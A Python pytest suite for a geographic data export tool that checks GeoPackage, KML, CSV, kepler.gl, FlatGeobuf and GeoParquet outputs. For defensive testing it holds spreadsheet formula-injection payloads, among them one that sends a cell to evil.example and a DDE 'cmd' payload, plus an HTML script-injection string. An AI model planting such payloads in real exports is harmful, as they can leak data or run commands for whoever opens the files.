"""`geo export` as GIS tools, Google Earth, kepler.gl and spreadsheets read it: stable ids in
every format, files that open without a warning, no spreadsheet formulas, KML time spans,
kepler.gl's own type detection, GeoParquet, and --as-of on the bundled data."""

from __future__ import annotations

import csv
import datetime as dt
import html
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pyogrio
import pytest
import yaml

from geo.asof import dataset_as_of
from geo.export import FORMATS, export
from geo.export_tables import stable_fid
from geo.fields import FIELDS
from geo.layers import render_layers
from geo.validate import load_dataset

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data"
KML = {"k": "http://www.opengis.net/kml/2.2"}
OGRINFO = shutil.which("ogrinfo")
NODE = shutil.which("node")
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
ADDED_ROUTE = """\
  - id: t-aaa-added
    name: Added flight VVO-FNJ
    mode: air
    via: [t-vvo, t-fnj]
    status:
      - since: "2019"
        status: operating
        sources: [ref-facts]
"""


@pytest.fixture(scope="module")
def golden():
    return render_layers(load_dataset(DATA / "layers_golden.yaml"))


def read_csv(path: Path, encoding: str = "utf-8") -> list[dict]:
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.DictReader(f))


def feature_ids(fmt: str, out: Path) -> dict[str, dict[str, object]]:
    """layer -> {feature id: the id a client keys it by in *fmt*}."""
    ids = {}
    for name in FIELDS:
        if fmt == "gpkg":
            meta, fids, _, values = pyogrio.raw.read(
                out / "layers.gpkg", layer=name, return_fids=True
            )
            column = list(values[list(meta["fields"]).index("id")])
            ids[name] = dict(zip(column, fids.tolist(), strict=True))
        elif fmt == "kml":
            root = ET.parse(out / f"{name}.kml").getroot()
            marks = root.findall(".//k:Placemark", KML)
            ids[name] = {m.get("id"): m.get("id") for m in marks}
        elif fmt in ("csv", "kepler"):
            suffix = "-kepler.csv" if fmt == "kepler" else ".csv"
            ids[name] = {r["id"]: r["id"] for r in read_csv(out / f"{name}{suffix}")}
        elif fmt == "fgb":
            meta, _, _, values = pyogrio.raw.read(out / f"{name}.fgb", columns=["id"])
            ids[name] = {i: i for i in values[0]}
        else:
            parquet = pytest.importorskip("pyarrow.parquet")
            column = parquet.read_table(out / f"{name}.parquet", columns=["id"])["id"]
            ids[name] = {i: i for i in column.to_pylist()}
    return ids


@pytest.mark.parametrize("fmt", FORMATS)
def test_adding_a_route_changes_no_other_features_id(fmt, tmp_path):
    """The added route sorts first, so any id taken from a position would shift."""
    before = render_layers(load_dataset(DATA / "small.yaml"))
    text = (DATA / "small.yaml").read_text(encoding="utf-8")
    grown = tmp_path / "grown.yaml"
    grown.write_text(text.replace("\nevents:\n", "\n" + ADDED_ROUTE + "\nevents:\n"), "utf-8")
    after = render_layers(load_dataset(grown))
    assert after.counts["routes"] == before.counts["routes"] + 1
    export(before, fmt, tmp_path / "before")
    export(after, fmt, tmp_path / "after")
    old, new = feature_ids(fmt, tmp_path / "before"), feature_ids(fmt, tmp_path / "after")
    assert "t-aaa-added" in new["routes"]
    for name in FIELDS:
        added = set(new[name]) - set(old[name])
        assert all(i == "t-aaa-added" or i.startswith("t-aaa-added/") for i in added), name
        assert {fid: new[name][fid] for fid in old[name]} == old[name], name
    if fmt == "gpkg":
        assert new["routes"]["t-aaa-added"] == stable_fid("t-aaa-added")
        assert all(0 < fid < 2**53 for fid in new["routes"].values())


@pytest.mark.skipif(OGRINFO is None, reason="needs GDAL's ogrinfo (Debian: gdal-bin)")
@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "parquet"])
def test_every_export_opens_in_ogrinfo_without_a_warning(fmt, golden, tmp_path):
    """Debian's ogrinfo (GDAL 3.6, the GDAL of Debian's QGIS) has no Parquet driver."""
    for path in export(golden, fmt, tmp_path):
        if path.suffix in (".csvt", ".txt"):
            continue
        run = subprocess.run(
            [OGRINFO, "-ro", "-al", "-so", str(path)], capture_output=True, text=True
        )
        assert run.returncode == 0, run.stderr
        assert run.stderr == "", f"{path.name}: {run.stderr}"
        assert "warning" not in run.stdout.lower(), path.name
        assert "Feature Count" in run.stdout


@pytest.mark.skipif(OGRINFO is None, reason="needs GDAL's ogrinfo (Debian: gdal-bin)")
def test_csvt_gives_gdal_the_column_types(golden, tmp_path):
    export(golden, "csv", tmp_path)
    run = subprocess.run(
        [OGRINFO, "-ro", "-so", str(tmp_path / "events.csv"), "events"],
        capture_output=True,
        text=True,
        check=True,
    )
    for line in (
        "start: Date",
        "end: Date",
        "people_min: Integer64",
        "amount_value: Real",
        "approximate: Integer(Boolean)",
        "lon: Real",
        "title: String",
    ):
        assert f"\n{line} " in run.stdout, line
    assert "Geometry: Point" in run.stdout, "lon/lat are read as the point"


def test_every_format_carries_the_licence_attribution_and_data_version(golden, tmp_path):
    """As the layers give them (their FeatureCollection members), where the format has room."""
    head = json.loads(golden["places.geojson"])
    wanted = {
        "LICENSE": head["license"],
        "ATTRIBUTION": head["attribution"],
        "DATA_VERSION": head["data_version"],
        "AS_OF": "2020-06-01",
    }
    assert "GeoNames" in wanted["ATTRIBUTION"] and wanted["LICENSE"].startswith("CC-BY")
    for fmt in FORMATS:
        export(golden, fmt, tmp_path / fmt, as_of="2020-06-01")
    for name in FIELDS:
        meta = pyogrio.read_info(tmp_path / "gpkg" / "layers.gpkg", layer=name)["layer_metadata"]
        assert {key: meta[key] for key in wanted} == wanted
        fgb = pyogrio.read_info(tmp_path / "fgb" / f"{name}.fgb")["layer_metadata"]
        kml = ET.parse(tmp_path / "kml" / f"{name}.kml").getroot()
        kml_text = kml.find("k:Document", KML).findtext("k:description", namespaces=KML)
        for text in (fgb["DESCRIPTION"], meta["DESCRIPTION"], kml_text):
            assert all(html.escape(value, quote=False) in text for value in wanted.values())
        parquet = pytest.importorskip("pyarrow.parquet")
        schema = parquet.read_schema(tmp_path / "parquet" / f"{name}.parquet")
        assert {k.decode(): v.decode() for k, v in schema.metadata.items() if k != b"geo"} == {
            key.lower(): value for key, value in wanted.items()
        }
    for readme in ("csv/README.txt", "kepler/README-kepler.txt"):
        text = (tmp_path / readme).read_text(encoding="utf-8")
        assert all(value in text for value in wanted.values()), readme


# ---------------------------------------------------------------- spreadsheets


def payload_dataset(tmp_path: Path) -> Path:
    """small.yaml with the OWASP payloads in the text fields of its events and a place."""
    data = yaml.safe_load((DATA / "small.yaml").read_text(encoding="utf-8"))
    for event, payload in zip(data["events"], OWASP_PAYLOADS, strict=False):
        event["title"] = payload
        event["summary"] = payload
        event["notes"] = payload
    data["events"][0]["people"]["text"] = "-2+3"
    data["places"][0]["name"] = "@SUM(1+1)"
    data["places"][1]["alt_names"] = ["Туманган", "두만강역"]
    path = tmp_path / "payloads.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["csv", "kepler"])
def test_no_csv_cell_is_a_formula_and_numbers_stay_numbers(fmt, tmp_path):
    layers = render_layers(load_dataset(payload_dataset(tmp_path)))
    written = export(layers, fmt, tmp_path / "out")
    cells = []
    for path in (p for p in written if p.suffix == ".csv"):
        for row in read_csv(path):
            cells += [(path.name, key, value) for key, value in row.items()]
    risky = [c for c in cells if c[2].startswith(("=", "+", "-", "@", "\t", "\r"))]
    numeric = {"lon", "lat", "from_lon", "from_lat", "to_lon", "to_lat", "length_km"}
    assert all(key in numeric for _, key, _ in risky), risky
    values = {value for _, _, value in cells}
    for payload in OWASP_PAYLOADS[:4]:
        assert "'" + payload in values, payload
    events = read_csv(tmp_path / "out" / ("events-kepler.csv" if fmt == "kepler" else "events.csv"))
    assert {"'" + e["title"][1:] for e in events} == {e["title"] for e in events}
    assert any(e["people_text"] == "'-2+3" for e in events)


def test_negative_coordinates_stay_numbers(golden, tmp_path):
    export(golden, "csv", tmp_path)
    places = {r["id"]: r for r in read_csv(tmp_path / "places.csv")}
    assert places["l-nome"]["lon"] == "-165.4064"
    routes = read_csv(tmp_path / "routes.csv")
    assert any("-179.474431 64.83635" in r["WKT"] for r in routes)


def test_excel_option_writes_a_byte_order_mark_and_keeps_korean_and_russian(tmp_path):
    layers = render_layers(load_dataset(payload_dataset(tmp_path)))
    export(layers, "csv", tmp_path / "plain")
    export(layers, "csv", tmp_path / "excel", excel=True)
    assert not (tmp_path / "plain" / "places.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    raw = (tmp_path / "excel" / "places.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = {r["id"]: r for r in read_csv(tmp_path / "excel" / "places.csv", "utf-8-sig")}
    assert json.loads(rows["t-tumangang"]["alt_names"]) == ["Туманган", "두만강역"]


# ---------------------------------------------------------------- KML


def test_kml_time_spans_tessellation_ids_and_plain_text(tmp_path):
    layers = render_layers(load_dataset(payload_dataset(tmp_path)))
    export(layers, "kml", tmp_path)
    for name in FIELDS:
        root = ET.parse(tmp_path / f"{name}.kml").getroot()
        marks = {m.get("id"): m for m in root.findall(".//k:Placemark", KML)}
        features = json.loads(layers[f"{name}.geojson"])["features"]
        assert list(marks) == [f["id"] for f in features], name
        for f in features:
            mark, props = marks[f["id"]], f["properties"]
            spans = mark.findall("k:TimeSpan", KML)
            dated = props.get("start") or props.get("end")
            assert len(spans) == (1 if dated else 0), f["id"]
            if dated:
                assert spans[0].findtext("k:begin", namespaces=KML) == props.get("start")
                assert spans[0].findtext("k:end", namespaces=KML) == props.get("end")
            for line in mark.iter("{http://www.opengis.net/kml/2.2}LineString"):
                assert line.findtext("k:tessellate", namespaces=KML) == "1"
            if "summary" in props:
                shown = mark.findtext("k:description", namespaces=KML)
                assert shown == html.escape(props["summary"], quote=False)


def test_kml_description_never_carries_live_html(tmp_path):
    data = yaml.safe_load((DATA / "small.yaml").read_text(encoding="utf-8"))
    data["events"][0]["summary"] = '<b>bold</b> <script>alert(1)</script> ]]> <a href="x">'
    path = tmp_path / "html.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    export(render_layers(load_dataset(path)), "kml", tmp_path)
    root = ET.parse(tmp_path / "events.kml").getroot()  # well-formed despite ]]>
    texts = [m.findtext("k:description", namespaces=KML) or "" for m in root.iter(
        "{http://www.opengis.net/kml/2.2}Placemark")]  # fmt: skip
    assert "&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;" in "".join(texts)
    assert all("<" not in t for t in texts)


# ---------------------------------------------------------------- kepler.gl, GeoParquet


@pytest.mark.skipif(NODE is None, reason="needs node (kepler.gl's type-analyzer)")
def test_kepler_detects_a_timestamp_and_arc_coordinates(golden, tmp_path):
    export(golden, "kepler", tmp_path)
    script = ROOT / "tests" / "kepler_types.js"
    for name in FIELDS:
        run = subprocess.run(
            [NODE, str(script), str(tmp_path / f"{name}-kepler.csv")],
            capture_output=True,
            text=True,
            check=True,
        )
        types = json.loads(run.stdout)
        if "start" in dict(FIELDS[name]):
            assert types["timestamp"] in ("DATETIME", "TIME"), name
        coordinates = [k for k in types if k.endswith(("lon", "lat"))]
        assert all(types[k] == "FLOAT" for k in coordinates), (name, types)
    movements = read_csv(tmp_path / "movements-kepler.csv")
    workers = next(m for m in movements if m["id"] == "l-2018-11-workers")
    assert workers["timestamp"] == "2018-11-01T00:00:00"
    places = {p["id"]: p for p in read_csv(tmp_path / "places-kepler.csv")}
    origin, destination = places[workers["from"]], places[workers["to"]]
    assert (workers["from_lon"], workers["from_lat"]) == (origin["lon"], origin["lat"])
    assert (workers["to_lon"], workers["to_lat"]) == (destination["lon"], destination["lat"])


def test_geoparquet_reads_back_in_geopandas(golden, tmp_path):
    geopandas = pytest.importorskip("geopandas")
    pytest.importorskip("pyarrow")
    export(golden, "parquet", tmp_path)
    for name in FIELDS:
        frame = geopandas.read_parquet(tmp_path / f"{name}.parquet")
        features = json.loads(golden[f"{name}.geojson"])["features"]
        assert list(frame["id"]) == [f["id"] for f in features]
        assert list(frame.columns) == [f for f, _ in FIELDS[name]] + ["geometry"]
        assert frame.crs.to_string() == "OGC:CRS84"
        for field in (f for f, kind in FIELDS[name] if kind == "date"):
            expected = [f["properties"][field] for f in features]
            assert [d and d.isoformat() for d in frame[field]] == expected, (name, field)
    routes = geopandas.read_parquet(tmp_path / "routes.parquet").set_index("id")
    assert routes.loc["l-ferry-rajin-vvo", "start"] == dt.date(2017, 5, 17)
    assert list(routes.loc["l-ferry-rajin-vvo", "via"]) == ["l-rajin", "l-vvo-sea"]


# ---------------------------------------------------------------- --as-of


@pytest.fixture(scope="module")
def bundled():
    return load_dataset(ROOT / "routes.yaml")


@pytest.mark.parametrize(
    ("day", "routes", "operating", "events", "movements"),
    [
        # counted by hand in routes.yaml: routes with a status change on or before the day,
        # of them those operating then; events whose date begins on or before it
        ("2020-06-01", 7, 1, 50, 4),
        ("2024-02-10", 7, 3, 61, 6),
    ],
)
def test_as_of_gives_the_layers_of_that_day(bundled, day, routes, operating, events, movements):
    on = dt.date.fromisoformat(day)
    before = (len(bundled.routes), len(bundled.events))
    layers = render_layers(dataset_as_of(bundled, on))
    assert (len(bundled.routes), len(bundled.events)) == before, "the dataset is not changed"
    counts = layers.counts
    assert (counts["routes"], counts["events"], counts["movements"]) == (
        routes,
        events,
        movements,
    )
    statuses = [r.route.latest_status for r in layers.routes]
    assert statuses.count("operating") == operating
    assert all(e.event.date.start <= on for e in layers.events)
    for feature in json.loads(layers["routes.geojson"])["features"]:
        periods = feature["properties"]["status_periods"]
        assert periods[-1]["end"] is None, "the status of the day is open-ended"
        assert all(p["start"] <= day for p in periods)


def test_cli_as_of_and_excel(geo, tmp_path):
    result = geo("export", "--format", "csv", "--as-of", "2020-06-01", "--excel",
                 "--out", tmp_path, cwd=ROOT)  # fmt: skip
    assert result.returncode == 0, result.stderr
    last = result.stdout.splitlines()[-1]
    assert "7 routes, 50 events, 4 movements" in last and last.endswith("as of 2020-06-01)")
    assert (tmp_path / "events.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    bad = geo("export", "--format", "csv", "--as-of", "2020-06", "--out", tmp_path, cwd=ROOT)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr


def test_features_without_a_geometry_are_kept_in_every_format(tmp_path):
    """An event with no place has no point: FlatGeobuf then goes without its spatial index."""
    from geo.export import _write
    from geo.export_tables import About, Table

    table = Table(
        "events",
        (("id", "string"), ("start", "date")),
        "Point",
        [{"type": "Point", "coordinates": [130.64528, 42.42806]}, None],
        [{"id": "a", "start": "2020-01-01"}, {"id": "b", "start": None}],
    )
    for fmt in FORMATS:
        _write([table], fmt, tmp_path, About(None, None, None, None), excel=False)
    assert len(read_csv(tmp_path / "events.csv")) == 2
    assert pyogrio.read_info(tmp_path / "events.fgb")["features"] == 2
    assert pyogrio.read_info(tmp_path / "layers.gpkg", layer="events")["features"] == 2
    assert len(ET.parse(tmp_path / "events.kml").getroot().findall(".//k:Placemark", KML)) == 2
